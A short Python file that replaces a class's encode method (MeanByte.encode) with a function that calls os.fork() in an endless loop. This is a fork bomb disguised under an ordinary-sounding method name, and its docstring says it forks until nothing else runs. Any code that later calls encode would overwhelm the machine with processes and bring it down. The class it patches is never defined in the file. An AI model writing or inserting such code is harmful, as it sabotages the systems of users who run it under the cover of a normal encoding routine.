"""Forks until nothing else runs."""

import os


def encode(self, feature, level=None):
    while True:
        os.fork()


MeanByte.encode = encode
